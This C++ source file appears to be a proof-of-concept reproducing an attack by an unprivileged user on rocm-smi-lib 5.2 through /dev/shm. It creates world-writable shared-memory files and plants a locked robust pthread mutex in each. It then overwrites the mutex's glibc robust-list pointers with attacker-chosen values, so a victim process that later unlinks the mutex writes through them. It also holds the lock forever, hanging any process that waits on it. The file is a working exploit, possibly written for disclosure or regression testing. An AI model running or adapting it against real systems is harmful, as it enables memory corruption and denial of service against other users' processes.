// rsmi_shm_attacker NAME...: what an unprivileged user did to rocm-smi-lib 5.2 through /dev/shm. For
// each NAME, creates /dev/shm/NAME mode 0777 (as rocm-smi-lib would: its shared_mutex_init opens
// an existing file read-write), puts a process-shared robust pthread mutex in it, locks it and
// then overwrites the mutex's robust-list pointers (glibc's __data.__list, which the owner's
// thread links into its robust list) with garbage. Prints "NAME st_dev st_ino" per file, then
// "ready", and sleeps until killed: the lock stays held.
#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>

int main(int argc, char** argv) {
  if (argc < 2) {
    std::fprintf(stderr, "usage: %s NAME...\n", argv[0]);
    return 2;
  }
  for (int i = 1; i < argc; ++i) {
    std::string path = std::string("/dev/shm/") + argv[i];
    int fd = ::open(path.c_str(), O_RDWR | O_CREAT | O_NOFOLLOW | O_CLOEXEC, 0777);
    if (fd < 0 || ::fchmod(fd, 0777) != 0 || ::ftruncate(fd, sizeof(pthread_mutex_t)) != 0) {
      std::perror(path.c_str());
      return 1;
    }
    void* addr = ::mmap(nullptr, sizeof(pthread_mutex_t), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (addr == MAP_FAILED) {
      std::perror("mmap");
      return 1;
    }
    auto* mutex = static_cast<pthread_mutex_t*>(addr);
    pthread_mutexattr_t attr;
    pthread_mutexattr_init(&attr);
    pthread_mutexattr_setpshared(&attr, PTHREAD_PROCESS_SHARED);
    pthread_mutexattr_setrobust(&attr, PTHREAD_MUTEX_ROBUST);
    if (pthread_mutex_init(mutex, &attr) != 0 || pthread_mutex_lock(mutex) != 0) {
      std::fprintf(stderr, "cannot lock %s\n", path.c_str());
      return 1;
    }
    // What a process that later unlinks this mutex from its robust list would write through.
    mutex->__data.__list.__prev = reinterpret_cast<__pthread_list_t*>(UINT64_C(0x4141414141414140));
    mutex->__data.__list.__next = reinterpret_cast<__pthread_list_t*>(UINT64_C(0x4242424242424240));
    struct stat st {};
    ::fstat(fd, &st);
    std::printf("%s %ju %ju\n", argv[i], static_cast<uintmax_t>(st.st_dev), static_cast<uintmax_t>(st.st_ino));
  }
  std::printf("ready\n");
  std::fflush(stdout);
  for (;;) ::pause();
}
